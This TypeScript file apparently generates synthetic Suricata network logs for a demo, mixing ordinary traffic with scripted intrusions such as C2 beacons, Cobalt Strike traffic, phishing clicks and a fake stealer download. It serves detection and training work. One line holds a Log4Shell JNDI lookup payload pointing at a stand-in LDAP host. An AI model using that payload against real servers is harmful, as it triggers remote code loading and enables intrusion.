import { EveRecords, type Eve } from './eve-records';
import { SERVICES, SIGNATURES, type SignaturePlan } from './internet';
import { THREATS, type DemoHost } from './scenario';
import { dayAt, MINUTE, pastMoment } from './timeline';

const BROWSER_UA =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36';
const POWERSHELL_UA = 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4648';
const UPDATE_UA = 'Microsoft-Delivery-Optimization/10.0';
const APT_UA = 'Debian APT-HTTP/1.3 (2.6.1)';

/** A machine's MAC address, the same on every run: VMware's prefix and three bytes from its name. */
function macOf(name: string): string {
  let h = 0x811c9dc5;
  for (let i = 0; i < name.length; i++) h = Math.imul(h ^ name.charCodeAt(i), 0x01000193) >>> 0;
  const bytes = [0x00, 0x50, 0x56, (h >>> 16) & 0x3f, (h >>> 8) & 0xff, h & 0xff];
  return bytes.map((b) => b.toString(16).padStart(2, '0')).join(':');
}

/** Builds one customer's Suricata EVE output: everyday traffic and the attacks of the story. */
export class NetworkGenerator extends EveRecords {
  /** Everyday traffic: `count` records of every kind, spread over the last 14 days. */
  background(count: number): void {
    const start = this.lines.length;
    const background = SIGNATURES.filter((s) => s.weight > 0);
    while (this.lines.length - start < count) {
      const at = pastMoment(this.random, this.now);
      const kind = this.random.weighted([
        ['web', 40],
        ['dns', 22],
        ['update', 6],
        ['internal', 14],
        ['alert', 4],
        ['anomaly', 1.5],
        ['speedtest', 0.3],
      ] as const);
      const client = this.random.pick(this.workstations);
      if (kind === 'web') {
        const service = this.random.pick(SERVICES);
        this.dns(at, client.ip, service.domain, service.ip);
        this.tls(at + this.random.int(20, 200), client.ip, service.ip, service.domain, service.issuer);
      } else if (kind === 'dns') {
        const service = this.random.pick(SERVICES);
        this.dns(at, this.random.pick(this.customer.hosts).ip, service.domain, service.ip);
      } else if (kind === 'update') {
        this.download(at);
      } else if (kind === 'internal') {
        this.internal(at, client);
      } else if (kind === 'alert') {
        this.backgroundAlert(at, this.random.weighted(background.map((s) => [s, s.weight] as const)));
      } else if (kind === 'anomaly') {
        this.anomaly(at);
      } else {
        this.dns(at, client.ip, this.random.pick(['www.speedtest.net', 'c.speedtest.net']), '151.101.2.219');
      }
    }
  }

  /**
   * What tells a sensor which machine holds which address: DHCP leases of the Windows machines (their
   * name, MAC and address, renewed every few days) and lookups of the servers' names on the company's
   * resolver.
   */
  leases(): void {
    const domain = `${this.customer.adDomain.toLowerCase()}.local`;
    for (const host of this.customer.hosts) {
      if (host.os === 'windows' && host.role === 'workstation') {
        const mac = macOf(host.name);
        for (let daysAgo = 13 - this.random.int(0, 2); daysAgo >= 0; daysAgo -= this.random.int(2, 4)) {
          this.dhcpLease(dayAt(this.now, daysAgo, 7 + this.random.int(0, 2), this.random.int(0, 59)), host, mac);
        }
      } else {
        for (let daysAgo = 13; daysAgo >= 0; daysAgo -= this.random.int(1, 3)) {
          const client = this.random.pick(this.workstations);
          this.dns(
            dayAt(this.now, daysAgo, 8 + this.random.int(0, 9), this.random.int(0, 59)),
            client.ip,
            `${host.name.toLowerCase()}.${domain}`,
            host.ip,
          );
        }
      }
    }
  }

  /** A DHCP request from a machine and the gateway's acknowledgement with its lease. */
  private dhcpLease(at: number, host: DemoHost, mac: string): void {
    const flow = this.newFlow();
    const id = this.random.int(1, 2 ** 31);
    const common = { id, client_mac: mac, client_ip: '0.0.0.0', relay_ip: '0.0.0.0', next_server_ip: '0.0.0.0' };
    this.emit(at, {
      ...this.base('dhcp', flow, '0.0.0.0', 68, '255.255.255.255', 67, 'UDP', 'dhcp'),
      dhcp: { type: 'request', ...common, assigned_ip: '0.0.0.0', dhcp_type: 'request', hostname: host.name },
    });
    this.emit(at + this.random.int(2, 30), {
      ...this.base('dhcp', flow, this.customer.gateway, 67, host.ip, 68, 'UDP', 'dhcp'),
      dhcp: {
        type: 'reply',
        ...common,
        assigned_ip: host.ip,
        dhcp_type: 'ack',
        lease_time: 4 * 86_400,
        subnet_mask: '255.255.0.0',
        routers: [this.customer.gateway],
        hostname: host.name,
        dns_servers: [this.customer.resolver],
      },
    });
  }

  /** A software update over plain HTTP with the file Suricata saw (hashes, no bytes). */
  private download(at: number): void {
    const linux = this.random.chance(0.35);
    const host = linux
      ? this.random.pick(this.servers.filter((s) => s.os === 'linux'))
      : this.random.pick(this.workstations);
    const service = this.random.pick(
      SERVICES.filter(
        (s) => s.http && (linux ? s.domain === 'archive.ubuntu.com' : s.domain.includes('windowsupdate')),
      ),
    );
    const name = linux
      ? `/ubuntu/pool/main/o/openssl/libssl3_3.0.2-0ubuntu1.${this.random.int(10, 19)}_amd64.deb`
      : `/d/msdownload/update/software/defu/2026/11/am_delta_patch_1.421.${this.random.int(100, 999)}.0_${this.random.hex(8)}.exe`;
    const size = this.random.int(80_000, 4_000_000);
    this.dns(at, host.ip, service.domain, service.ip);
    this.http(
      at + 150,
      host.ip,
      service.ip,
      {
        hostname: service.domain,
        url: name,
        ua: linux ? APT_UA : UPDATE_UA,
        contentType: linux ? 'application/vnd.debian.binary-package' : 'application/octet-stream',
      },
      {
        filename: name,
        magic: linux ? 'Debian binary package (format 2.0)' : 'PE32+ executable (GUI) x86-64, for MS Windows',
        size,
        md5: this.random.hex(32),
        sha1: this.random.hex(40),
        sha256: this.random.hex(64),
      },
    );
  }

  /** Traffic inside the company: SMB to the file server, LDAP and Kerberos to the domain controller. */
  private internal(at: number, client: DemoHost): void {
    const server = this.random.pick(this.servers);
    const [port, appProto] = this.random.pick([
      [445, 'smb'],
      [389, 'ldap'],
      [88, 'krb5'],
      [443, 'tls'],
      [5432, undefined],
    ] as const);
    const flow = this.newFlow();
    this.flowRecord(
      at,
      flow,
      client.ip,
      this.ephemeral(),
      server.ip,
      port,
      'TCP',
      appProto,
      this.random.int(500, 80_000),
      this.random.int(500, 3_000_000),
    );
  }

  private anomaly(at: number): void {
    const flow = this.newFlow();
    const [type, event, layer] = this.random.pick([
      ['stream', 'stream.pkt_invalid_timestamp', 'proto_detect'],
      ['stream', 'stream.3whs_synack_with_wrong_ack', 'proto_detect'],
      ['decode', 'decoder.ipv4.trunc_pkt', 'decode'],
      ['applayer', 'applayer.APPLAYER_DETECT_PROTOCOL_ONLY_ONE_DIRECTION', 'proto_detect'],
    ] as const);
    const client = this.random.pick(this.customer.hosts);
    this.emit(at, {
      ...this.base('anomaly', flow, client.ip, this.ephemeral(), this.random.pick(SERVICES).ip, 443, 'TCP'),
      anomaly: { type, event, layer },
    });
  }

  private backgroundAlert(at: number, signature: SignaturePlan): void {
    const flow = this.newFlow();
    if (signature.kind === 'scan' || signature.kind === 'exploit') {
      const scanner = this.random.pick(THREATS.scanners);
      const target = this.random.pick(this.servers);
      const port =
        signature.sid === 2001219 ? 22 : signature.sid === 2002910 ? 5800 : signature.sid === 2010935 ? 1433 : 80;
      const appProto = port === 80 ? 'http' : undefined;
      const context: Eve =
        port === 80
          ? {
              http: {
                hostname: target.ip,
                url: signature.kind === 'exploit' ? '/?x=${jndi:ldap://192.0.2.201:1389/Exploit}' : '/',
                http_user_agent:
                  signature.sid === 2024364 ? 'Mozilla/5.0 (compatible; Nmap Scripting Engine)' : 'curl/7.88.1',
                http_method: 'GET',
                protocol: 'HTTP/1.1',
                status: 404,
                length: 162,
              },
            }
          : {};
      this.alert(at, flow, scanner, this.ephemeral(), target.ip, port, 'TCP', appProto, signature, context);
      this.flowRecord(at, flow, scanner, this.ephemeral(), target.ip, port, 'TCP', appProto, 60, 0, true);
      return;
    }
    const client = this.random.pick(this.customer.hosts);
    if (signature.sid === 2013028) {
      this.http(
        at,
        client.ip,
        '151.101.66.132',
        { hostname: 'deb.debian.org', url: '/debian/dists/bookworm/InRelease', ua: 'curl/8.4.0' },
        undefined,
        signature,
      );
    } else if (signature.sid === 2012648) {
      this.tls(
        at,
        client.ip,
        '162.125.69.18',
        'client.dropbox.com',
        'C=US, O=DigiCert Inc, CN=DigiCert TLS RSA SHA256 2020 CA1',
        signature,
      );
    } else if (signature.sid === 2033966) {
      this.dns(at, client.ip, 'relay-8f3a21c4.net.anydesk.com', '195.181.174.51');
      this.alert(at + 2, flow, client.ip, this.ephemeral(), this.customer.resolver, 53, 'UDP', 'dns', signature, {
        dns: { query: [{ type: 'query', rrname: 'relay-8f3a21c4.net.anydesk.com', rrtype: 'A' }] },
      });
    } else if (signature.sid === 2027865) {
      const name = this.random.pick(['status.backblaze.cloud', 'metrics.portal.cloud', 'api.sendgrid.cloud']);
      this.dns(at, client.ip, name, `104.18.${this.random.int(0, 255)}.${this.random.int(1, 254)}`);
      this.alert(at + 2, flow, client.ip, this.ephemeral(), this.customer.resolver, 53, 'UDP', 'dns', signature, {
        dns: { query: [{ type: 'query', rrname: name, rrtype: 'A' }] },
      });
    } else if (signature.sid === 2031071) {
      this.http(
        at,
        client.ip,
        '192.0.2.160',
        { hostname: 'promo-coupons.top', url: '/c/landing.html', ua: BROWSER_UA },
        undefined,
        signature,
      );
    } else {
      this.http(
        at,
        client.ip,
        '23.50.52.93',
        {
          hostname: 'www.dhl.com',
          url: '/flash/version.xml',
          ua: 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)',
        },
        undefined,
        signature,
      );
    }
  }

  /** The attacks of the story, at fixed days of the last two weeks. `beacons` bounds the repeated C2 traffic. */
  scenario(beacons: number): void {
    if (this.customer.key === 'northwind') this.northwind(beacons);
    else this.aurora(beacons);
    // Malformed packets the sensor noticed, whatever the scale.
    for (const daysAgo of [10, 4, 1])
      this.anomaly(dayAt(this.now, daysAgo, this.random.int(8, 17), this.random.int(0, 59)));
  }

  private northwind(beacons: number): void {
    // Day -3: the invoice macro on NW-WS-017 fetches the loader, which then beacons every ~10 minutes.
    const victim = this.host('NW-WS-017');
    const opened = dayAt(this.now, 3, 9, 17);
    this.dns(opened + 40_000, victim.ip, THREATS.c2Domain, THREATS.c2Ip);
    this.tls(opened + 42_000, victim.ip, THREATS.c2Ip, THREATS.c2Domain, "C=US, O=Let's Encrypt, CN=R11");
    this.http(
      opened + 44_000,
      victim.ip,
      THREATS.c2Ip,
      {
        hostname: THREATS.c2Domain,
        url: '/s/a.bin',
        ua: 'Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)',
        contentType: 'application/octet-stream',
      },
      this.fileOf('msoffsync.dll', '/s/a.bin', 'PE32+ executable (DLL) (GUI) x86-64, for MS Windows'),
    );
    const beacon = this.signature(2049108);
    for (let i = 0; i < beacons; i++) {
      const at = opened + 3 * MINUTE + i * (10 * MINUTE + this.random.int(-40, 40) * 1000);
      if (at > this.now - MINUTE) break;
      this.tls(at, victim.ip, THREATS.c2Ip, THREATS.c2Domain, "C=US, O=Let's Encrypt, CN=R11", beacon);
    }
    // Day -5: a PowerShell download cradle on NW-WS-023, then the Cobalt Strike team server.
    const okafor = this.host('NW-WS-023');
    const cradle = dayAt(this.now, 5, 14, 2);
    this.http(
      cradle,
      okafor.ip,
      THREATS.stagerIp,
      { hostname: THREATS.stagerIp, url: '/content/upd.ps1', ua: POWERSHELL_UA, contentType: 'text/plain' },
      this.fileOf('upd.ps1', '/content/upd.ps1', 'ASCII text, with very long lines'),
      this.signature(2049112),
    );
    const cobalt = this.signature(2016683);
    for (let i = 0; i < Math.max(2, Math.floor(beacons / 2)); i++) {
      const at = cradle + 2 * MINUTE + i * 17 * MINUTE;
      this.http(
        at,
        okafor.ip,
        THREATS.teamServerIp,
        {
          hostname: THREATS.teamServerIp,
          url: '/jquery-3.3.1.min.js',
          ua: BROWSER_UA,
          contentType: 'application/javascript',
        },
        undefined,
        cobalt,
      );
    }
    // The phishing link in the parcel mail, clicked from NW-WS-040 on day -1.
    const click = dayAt(this.now, 1, 11, 48);
    const costa = this.host('NW-WS-040');
    this.dns(click, costa.ip, THREATS.phishDomain, '192.0.2.160');
    this.tls(click + 900, costa.ip, '192.0.2.160', THREATS.phishDomain, "C=US, O=Let's Encrypt, CN=R10");
    // Bandwidth tests from the depot.
    for (const daysAgo of [9, 6, 2])
      this.dns(dayAt(this.now, daysAgo, 12, 30), this.host('NW-WS-031').ip, 'www.speedtest.net', '151.101.2.219');
  }

  private aurora(beacons: number): void {
    // Day -2: the fake lab results downloaded and run on AC-LAB-02; the stealer checks in.
    const lab = this.host('AC-LAB-02');
    const download = dayAt(this.now, 2, 10, 36);
    this.dns(download, lab.ip, THREATS.payloadDomain, THREATS.payloadIp);
    this.http(
      download + 1500,
      lab.ip,
      THREATS.payloadIp,
      {
        hostname: THREATS.payloadDomain,
        url: '/download/Lab_Results_2291.pdf.exe',
        ua: BROWSER_UA,
        contentType: 'application/pdf',
      },
      this.fileOf(
        'Lab_Results_2291.pdf.exe',
        'Lab_Results_2291.pdf.exe',
        'PE32 executable (GUI) Intel 80386, for MS Windows',
      ),
      this.signature(2049151),
    );
    const checkin = this.signature(2049140);
    for (let i = 0; i < Math.max(2, Math.floor(beacons / 2)); i++) {
      const at = download + 4 * MINUTE + i * 30 * MINUTE;
      this.http(
        at,
        lab.ip,
        THREATS.payloadIp,
        { hostname: THREATS.payloadIp, url: '/gate.php', ua: 'Mozilla/5.0', method: 'POST', contentType: 'text/plain' },
        undefined,
        checkin,
      );
    }
    // Day -6: RDP password guessing against AC-RDS-01 from a scanner, then its beacon to the team server.
    const rds = this.host('AC-RDS-01');
    const guessing = dayAt(this.now, 6, 2, 10);
    for (let i = 0; i < 30; i++) {
      const flow = this.newFlow();
      this.flowRecord(
        guessing + i * 20_000,
        flow,
        THREATS.scanners[1],
        this.ephemeral(),
        rds.ip,
        3389,
        'TCP',
        'rdp',
        2_400,
        3_100,
      );
    }
    const cobalt = this.signature(2016683);
    for (let i = 0; i < Math.max(2, Math.floor(beacons / 3)); i++) {
      this.http(
        guessing + 50 * MINUTE + i * 23 * MINUTE,
        rds.ip,
        THREATS.teamServerIp,
        {
          hostname: THREATS.teamServerIp,
          url: '/jquery-3.3.1.min.js',
          ua: BROWSER_UA,
          contentType: 'application/javascript',
        },
        undefined,
        cobalt,
      );
    }
    // The "mailbox full" link clicked from AC-ADM-03 on day -4.
    const click = dayAt(this.now, 4, 15, 3);
    const adm = this.host('AC-ADM-03');
    this.dns(click, adm.ip, THREATS.phishDomain, '192.0.2.160');
    this.http(
      click + 700,
      adm.ip,
      '192.0.2.160',
      { hostname: THREATS.phishDomain, url: `${THREATS.phishUrlPath}?u=s.adeyemi`, ua: BROWSER_UA },
      undefined,
      this.signature(2031071),
    );
    for (const daysAgo of [11, 3])
      this.dns(dayAt(this.now, daysAgo, 16, 5), this.host('AC-REC-02').ip, 'www.speedtest.net', '151.101.2.219');
  }
}
